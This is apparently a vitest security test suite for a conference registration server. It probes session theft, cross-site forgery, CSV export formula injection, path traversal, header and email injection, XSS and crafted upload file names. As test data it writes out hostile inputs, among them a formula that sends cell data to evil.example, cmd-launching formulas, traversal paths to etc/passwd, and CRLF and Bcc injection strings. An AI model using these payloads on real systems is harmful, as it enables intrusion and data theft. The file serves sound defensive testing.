/** Attacks on the office: sessions, pages of other sites, formulas in its tables, addresses and headers made to break out. */
import { cpSync, readFileSync, readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ADMIN } from '../browser/serve.ts'
import { ALL_RUNS } from '../runs.ts'
import { createPdf } from '../server/sample-uploads.ts'
import { placed, presses, untilIs } from './gateway.ts'
import {
  changes,
  CODED,
  CODED_REGISTER,
  codedDelegate,
  command,
  delegate,
  formOf,
  freshAddress,
  postGraduate,
  proof,
  registered,
  routesOf,
  signedIn,
  startTarget,
  REGISTER,
} from './target.ts'
import type { Route, Target } from './target.ts'

let target: Target
/** Every route with its open parts filled by what is there, so that a call that gets through does something. */
let routes: readonly Route[]
let paid: string
beforeAll(async () => {
  target = await startTarget()
  const { regNo, data } = await registered(target)
  await presses(await placed(data), 'pay')
  await untilIs(target, regNo, 'success')
  paid = regNo
  routes = (await routesOf()).map(({ method, path }) => ({
    method,
    path: path
      .replaceAll(/:id\b/g, 'afpicon2026')
      .replaceAll(/:field\b/g, 'pg_proof')
      .replaceAll(/:\w+|\{\w+\}/g, regNo)
      .replaceAll('*', 'nothing-here'),
  }))
})
afterAll(() => target.stop())

const cookieOf = (token: string): Readonly<Record<string, string>> => ({
  cookie: `rollcall_session=${token}`,
})
const sessionOf = async (headers: Readonly<Record<string, string>>): Promise<number> =>
  (await target.ask({ path: '/admin/session/', headers })).status
/** Routes that want an admin: they say 401 to everybody else. */
const guarded = async (methods: (method: string) => boolean): Promise<readonly Route[]> => {
  const found: Route[] = []
  for (const { method, path } of routes.filter((route) => methods(route.method)))
    if ((await target.ask({ method, path })).status === 401) found.push({ method, path })
  return found
}
const isRead = (method: string): boolean => method === 'GET' || method === 'HEAD'

describe('a session', () => {
  test('stolen and then signed out gives no access to any call of the office', async () => {
    const token = await signedIn(target)
    const headers = { ...cookieOf(token), origin: target.url, 'sec-fetch-site': 'same-origin' }
    expect((await target.ask({ method: 'POST', path: '/admin/logout/', headers })).status).toBe(200)
    const calls = await guarded(() => true)
    expect(calls.length).toBeGreaterThan(20)
    const before = target.holds()
    for (const { method, path } of calls)
      for (const stolen of [headers, { authorization: `Bearer ${token}` }])
        expect([path, (await target.ask({ method, path, headers: stolen })).status]).toEqual([
          path,
          401,
        ])
    expect(changes(before, target.holds())).toEqual({})
  })

  test('set before the sign-in is invalid afterwards: the token is always new', async () => {
    const chosen = 'A'.repeat(43)
    const answer = await target.post('/admin/login/', ADMIN, freshAddress(), cookieOf(chosen))
    expect(answer.status).toBe(200)
    expect(answer.headers.get('set-cookie')).not.toContain(chosen)
    expect(await sessionOf(cookieOf(chosen))).toBe(401)
    const again = await signedIn(target)
    expect(answer.body).not.toContain(again)
  })

  test('is a cookie that scripts cannot read, other sites cannot send, and that expires', async () => {
    const answer = await target.post('/admin/login/', ADMIN)
    const [value = '', ...flags] = (answer.headers.get('set-cookie') ?? '').split('; ')
    expect(value).toMatch(/^rollcall_session=[\w-]{43}$/)
    expect(flags.toSorted()).toEqual(['HttpOnly', 'Max-Age=43200', 'Path=/', 'SameSite=Strict'])
  })

  test.each([
    ['', 401],
    [' ', 401],
    ['"', 401],
    ["' OR 1=1 --", 401],
    ['%00', 401],
    ['x'.repeat(8000), 401],
    ['null', 401],
    ['undefined', 401],
    ['rollcall_session', 401],
  ])('that is %j is nobody’s', async (token, status) => {
    expect(await sessionOf({ cookie: `rollcall_session=${token}` })).toBe(status)
    expect(await sessionOf({ authorization: `Bearer ${token}` })).toBe(status)
  })

  test('of yesterday has expired, and so has one that was idle for two hours', async () => {
    const token = await signedIn(target)
    expect(await sessionOf(cookieOf(token))).toBe(200)
    const later = await startTarget({ CLOCK: '2025-10-10T14:30:00+05:30' }, ({ dataDir }) =>
      cpSync(target.dataDir, dataDir, { recursive: true }),
    )
    try {
      const { status } = await later.ask({ path: '/admin/session/', headers: cookieOf(token) })
      expect(status).toBe(401)
      expect((await later.ask({ path: '/admin/session/' })).status).toBe(401)
    } finally {
      await later.stop()
    }
  })
})

describe('a page of another site', () => {
  const foreign: readonly (readonly [what: string, Readonly<Record<string, string>>])[] = [
    ['says where it is', { origin: 'https://evil.example' }],
    ['hides where it is', { origin: 'null' }],
    ['says nothing', {}],
    ['is told by the browser', { 'sec-fetch-site': 'cross-site' }],
    ['is a neighbour', { 'sec-fetch-site': 'same-site', origin: 'http://127.0.0.1:1' }],
    ['lies about its origin', { 'sec-fetch-site': 'cross-site', origin: 'http://rollcall.test' }],
  ]
  const bodies = [
    ['text/plain', '{"why":"x"}'],
    ['application/x-www-form-urlencoded', 'why=x&what=accept&amount=1'],
    ['multipart/form-data; boundary=x', '--x--'],
  ] as const

  test("changes nothing with an admin's cookie, by any call", async () => {
    const calls = await guarded((method) => !isRead(method))
    // Signing out answers a stranger with success, and yet may be nobody else's to do.
    const logouts = routes.filter(({ path }) => path.includes('logout'))
    for (const path of [
      `/admin/registrations/${paid}/acts/`,
      '/admin/codes/',
      '/admin/codes/withdraw/',
    ])
      expect(calls.map((call) => call.path)).toContain(path)
    expect(logouts.length).toBeGreaterThan(0)
    const token = await signedIn(target)
    const before = target.holds()
    const ways = foreign.flatMap(([what, origin]) =>
      bodies.map(([type, body]) => ({ what, origin, type, body })),
    )
    // Each call in three of the ways, the next one in the next three.
    const waysTo = (at: number): typeof ways =>
      ALL_RUNS ? ways : [0, 1, 2].flatMap((n) => ways[(3 * at + n) % ways.length] ?? [])
    for (const [at, { method, path }] of [...calls, ...logouts].entries())
      for (const { what, origin, type, body } of waysTo(at)) {
        const headers = { ...cookieOf(token), ...origin, 'content-type': type }
        const { status } = await target.ask({ method, path, headers, body })
        expect([path, what, type, status >= 400 && status < 500 && status !== 401]).toEqual([
          path,
          what,
          type,
          true,
        ])
        if (type === 'application/x-www-form-urlencoded')
          expect([path, what, status]).toEqual([path, what, 403])
      }
    expect(changes(before, target.holds())).toEqual({})
    expect(await sessionOf(cookieOf(token))).toBe(200)
    // The same call from our own page does what it says, so that the walk was not at a closed door.
    const own = { ...cookieOf(token), 'sec-fetch-site': 'same-origin' }
    const path = `/admin/registrations/${paid}/acts/`
    const headers = { ...own, 'content-type': 'application/json' }
    const body = JSON.stringify({ act: 'note', why: 'Ours.' })
    expect((await target.ask({ method: 'POST', path, headers, body })).status).toBe(200)
  })

  test('cannot sign a browser in, whatever it sends', async () => {
    const before = target.holds()
    for (const path of routes
      .filter((route) => route.path.includes('login') && !isRead(route.method))
      .map((route) => route.path))
      for (const [what, origin] of foreign.filter(([, headers]) => 'origin' in headers)) {
        const answer = await target.post(path, ADMIN, freshAddress(), origin)
        expect([what, answer.status, answer.headers.get('set-cookie')]).toEqual([
          what,
          403,
          undefined,
        ])
      }
    expect(changes(before, target.holds())).toEqual({})
  })

  test('changes nothing by links and images, except for entries in the audit log', async () => {
    const token = await signedIn(target)
    const before = target.holds()
    for (const { path } of routes.filter(({ method }) => method === 'GET'))
      await target.ask({ path, headers: { ...cookieOf(token), 'sec-fetch-site': 'cross-site' } })
    const { audit_log: _acts, ...changed } = changes(before, target.holds())
    expect(changed).toEqual({})
    expect(await sessionOf(cookieOf(token))).toBe(200)
  })

  test('learns nothing: no response can be read, framed or inferred', async () => {
    const token = await signedIn(target)
    for (const { path } of routes.filter(({ method }) => method === 'GET')) {
      const headers = { ...cookieOf(token), origin: 'https://evil.example' }
      const answer = await target.ask({ path, headers })
      const said = (name: string): string => answer.headers.get(name) ?? ''
      expect([path, said('access-control-allow-origin')]).toEqual([path, ''])
      expect([path, said('x-content-type-options')]).toEqual([path, 'nosniff'])
      expect([path, /frame-ancestors 'none'/.test(said('content-security-policy'))]).toEqual([
        path,
        true,
      ])
    }
  })
})

describe('an export of the office', () => {
  /** What spreadsheets take for the beginning of a formula, as it is, wide as in Chinese, and behind what splits cells. */
  const leads = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
  const formulas = [
    ...leads.map((lead) => `${lead}1+1`),
    ...leads.map((lead) => ` ${lead}1+1`),
    ...leads.map((lead) => `x;${lead}1+1;y`),
    ...leads.map((lead) => `x\t${lead}1+1`),
    ...leads.map((lead) => `x\r\n${lead}1+1`),
    ...leads.map((lead) => `x\r${lead}1+1`),
    ...leads.map((lead) => `x",${lead}1+1`),
    ...leads.map((lead) => `\u200b${lead}1+1`),
    ...leads.map((lead) => `\ufeff${lead}1+1`),
    ...leads.map((lead) => `\u200d${lead}1+1`),
    ...leads.map((lead) => `\ufe0f\u200c${lead}1+1`),
    ...leads.map((lead) => `x;\u200d${lead}1+1`),
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+919876543210',
  ]
  /**
   * As spreadsheets split a line: at commas, or at semicolons or tabs where the country or the person has it
   * so. In the latter two a quote that does not stand at the beginning of a cell holds nothing together.
   */
  const cellsOf = (csv: string): readonly string[] => [
    ...(parse(csv, { bom: true }) as string[][]).flat(),
    ...csv.split(/[\r\n;\t]/),
  ]
  const isFormula = (cell: string): boolean =>
    cell
      .split(/[\r\n]/)
      .some((line) => /^["\s\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠]/u.test(line)) &&
    !/^\+\d[\d ()-]*$/.test(cell) &&
    // An amount, which is a number in every spreadsheet.
    !/^-\d+\.\d\d$/.test(cell)

  test('contains no formula of a delegate, whatever the separator', async () => {
    let taken = 0
    for (const formula of formulas) {
      const { status } = await target.post(REGISTER, {
        ...delegate,
        full_name: formula,
        designation: formula,
        city: formula,
      })
      expect([formula, [201, 422].includes(status)]).toEqual([formula, true])
      if (status === 201) taken += 1
    }
    expect(taken).toBeGreaterThan(20)
    const headers = { authorization: `Bearer ${await signedIn(target)}` }
    for (const path of ['/admin/export/?event_type=afpicon', '/afpicon/download-csv/']) {
      const { status, body } = await target.ask({ path, headers })
      expect(status).toBe(200)
      expect(body).toContain('1+1')
      expect(cellsOf(body).filter(isFormula)).toEqual([])
    }
  })

  test('contains none of accompanying people, member lists or discount codes, also with one row per person', async () => {
    const headers = { authorization: `Bearer ${await signedIn(target)}` }
    const file = join(target.dataDir, 'roll.csv')
    writeFileSync(
      file,
      'number,name,kind,valid_to\n=1+1,"=HYPERLINK(""http://evil.example"",""see"")",life,\n',
    )
    await command(target, 'event', 'members', CODED, 'society', file)
    const made = await target.post(
      '/admin/codes/',
      { event: CODED, kind: 'coupon', code: '=1+1+1+1+1+1', note: '=1+1', uses: 99 },
      freshAddress(),
      headers,
    )
    expect(made.status).toBe(201)
    for (const [at, formula] of formulas.entries()) {
      const { status } = await target.post(CODED_REGISTER, {
        ...codedDelegate,
        full_name: `Delegate ${at}`,
        email: `delegate${at}@example.org`,
        code: '=1+1+1+1+1+1',
        number: '=1+1',
        companions: [{ name: formula }, { name: 'A Person' }],
      })
      expect([formula, [201, 422].includes(status)]).toEqual([formula, true])
    }
    const list = await target.ask({ path: `/admin/export/?event_type=${CODED}`, headers })
    const each = await command(target, 'registration', 'export', CODED, '--per', 'companions')
    for (const csv of [list.body, each]) {
      expect(csv).toContain('1+1')
      expect(cellsOf(csv).filter(isFormula)).toEqual([])
    }
  })

  test.each([
    ['a kind', { kind: '__proto__' }],
    ['a number of uses', { uses: 1e21 }],
    ['a number of codes', { count: '1e3' }],
    ['a last day', { until: '9999-99-99' }],
    ['a note', { note: 'x'.repeat(100_000) }],
    ['a code', { code: '\u0000\u202e' }],
    ['an event', { event: ['afpicon2026'] }],
    ['everything', { event: { id: CODED }, kind: [], code: {}, uses: [], count: null }],
  ])('of codes takes no %s that is none', async (_what, words) => {
    const headers = { authorization: `Bearer ${await signedIn(target)}` }
    const before = target.holds()
    for (const path of ['/admin/codes/', '/admin/codes/withdraw/']) {
      const said = { event: CODED, kind: 'coupon', ...words }
      const { status } = await target.post(path, said, freshAddress(), headers)
      expect([path, status >= 400 && status < 500]).toEqual([path, true])
    }
    const { audit_log: _acts, sessions: _mine, ...changed } = changes(before, target.holds())
    expect(changed).toEqual({})
  })

  test('negative control: the check detects a formula', () => {
    for (const csv of ['=1+1\r\n', 'a,"=1+1"\r\n', 'a,b;=1+1\r\n', 'a\t＝1\r\n', '"x\r\n=1+1"\r\n'])
      expect([csv, cellsOf(csv).some(isFormula)]).toEqual([csv, true])
    expect(cellsOf("'=1+1,+919876543210,a\r\n").some(isFormula)).toBe(false)
  })
})

describe('a crafted address', () => {
  const files = /SQLite format 3|"name": "rollcall"|root:[x*]:0|DATA_DIR|BEGIN [A-Z ]*PRIVATE KEY/
  const ups = [
    '..',
    '%2e%2e',
    '..%2f',
    '%2e%2e%2f',
    '..%5c',
    '..\\',
    '%252e%252e%252f',
    '..%c0%af',
    '....//',
  ]
  test.each(ups)('by %s reads no file', async (up) => {
    const headers = { authorization: `Bearer ${await signedIn(target)}` }
    const away = (name: string): string => `${`${up}/`.repeat(6)}${name}`
    for (const path of [
      `/assets/${away('package.json')}`,
      `/assets/${up}/${up}/${up}/package.json`,
      `/${away('etc/passwd')}`,
      `/api/events/${away('package.json')}/file/`,
      `/api/events/afpicon2026/${away('rollcall.db')}`,
      `/admin/registrations/${paid}/files/${away('rollcall.db')}/`,
      `/admin/registrations/${paid}/files/${encodeURIComponent(away('rollcall.db'))}/`,
      `/admin/registrations/${away('rollcall.db')}/`,
      `/admin/export/?event_type=${away('rollcall.db')}`,
      `/assets/%00${away('package.json')}%00.js`,
    ]) {
      const answer = await target.ask({ path, headers })
      expect([path, files.test(answer.body)]).toEqual([path, false])
      expect([path, answer.status < 500]).toEqual([path, true])
    }
  })

  test('with line breaks writes no response header', async () => {
    const headers = { authorization: `Bearer ${await signedIn(target)}` }
    const text = '%0d%0aSet-Cookie:%20a=b%0aSet-Cookie:%20c=d%E5%98%8A%E5%98%8DSet-Cookie:%20e=f'
    const asked = ['orderId', 'event_type', 'search', 'date_from'].map((name) => `${name}=${text}`)
    for (const { method, path } of routes.filter((route) => !route.path.includes('logout')))
      for (const at of [`${path}?${asked.join('&')}`, `${path}${text}`]) {
        const answer = await target.ask({ method, path: at, headers })
        expect([at, answer.headers.get('set-cookie')]).toEqual([at, undefined])
      }
  })

  test('shows no text of an attacker on any page', async () => {
    const words = '<img src=x onerror=alert(1)>'
    for (const { path } of routes.filter(({ method }) => method === 'GET')) {
      const text = encodeURIComponent(words)
      const answer = await target.ask({
        path: `${path}?orderId=${text}&message=${text}&amount=${text}&date=${text}`,
      })
      expect([path, answer.body.includes(words)]).toEqual([path, false])
    }
  })
})

describe('a crafted name', () => {
  const breaking = 'Asha\r\nBcc: mallory@evil.example\r\n\r\n<b>'
  test('with line breaks writes no email header and adds no recipient', async () => {
    const { regNo, data } = await registered(target, { ...delegate, full_name: breaking })
    await presses(await placed(data), 'pay')
    await untilIs(target, regNo, 'success')
    const mails = join(target.dataDir, 'mail')
    const mailed = (): readonly string[] =>
      readdirSync(mails)
        .map((name) => readFileSync(join(mails, name), 'utf8'))
        .filter((text) => text.includes(regNo))
    await expect.poll(mailed, { timeout: 200_000 }).toHaveLength(1)
    const [heads = ''] = (mailed()[0] ?? '').split(/\r?\n\r?\n/)
    expect(heads).toMatch(/^To: asha@example\.org$/m)
    expect(heads).not.toContain('mallory')
  })

  test.each([
    'x@example.org\r\nBcc: mallory@evil.example',
    'x@example.org, mallory@evil.example',
    'x@example.org;mallory@evil.example',
    '"x\r\n"@example.org',
  ])('is rejected as the email address %j', async (email) => {
    const before = target.holds()
    const { status } = await target.post(REGISTER, { ...delegate, email })
    expect([status, changes(before, target.holds())]).toEqual([422, {}])
  })

  test('as an email address loses invisible characters, and no email has two recipients', async () => {
    for (const email of ['x@example.org\u0000', '<x@example.org>', 'x@example.org\u0008'])
      await target.post(REGISTER, { ...delegate, email })
    for (const { email } of target.rows('SELECT email FROM registrations'))
      expect(email).toMatch(/^<?[\w.]+@example\.org>?$/)
  })

  test.each([
    '../../../evil.pdf',
    'a\r\nSet-Cookie: a=b.pdf',
    'a";filename=evil.exe;x=".pdf',
    '\u202efdp.exe.pdf',
    'C:\\a.pdf',
    'ʕ•ᴥ•ʔ.pdf',
  ])(
    'as a file name, %j, stays in the upload folder and is sent as a plain name',
    async (filename) => {
      const { headers, body } = formOf(postGraduate, [
        proof(createPdf(filename), filename.replaceAll('\r\n', '%0D%0A').replaceAll('"', '%22')),
      ])
      const answer = await target.ask({ method: 'POST', path: REGISTER, headers, body })
      expect([201, 422]).toContain(answer.status)
      if (answer.status === 422) return
      const { reg_no } = JSON.parse(answer.body) as { reg_no: string }
      const got = await target.ask({
        path: `/admin/registrations/${reg_no}/files/pg_proof/`,
        headers: { authorization: `Bearer ${await signedIn(target)}` },
      })
      expect(got.status).toBe(200)
      expect(got.headers.get('set-cookie')).toBe(undefined)
      expect(got.headers.get('content-disposition')).toMatch(
        /^attachment; filename="[ !#-[\]-~]*"; filename\*=UTF-8''[\w.~!%-]*$/,
      )
      expect(got.headers.get('content-security-policy')).toContain('sandbox')
      const kept = readdirSync(join(target.dataDir, 'uploads'), {
        recursive: true,
        withFileTypes: true,
      })
        .filter((entry) => entry.isFile())
        .map(({ name }) => name)
      for (const name of kept) expect(name).toMatch(/^[0-9a-f]{64}$/)
    },
  )
})
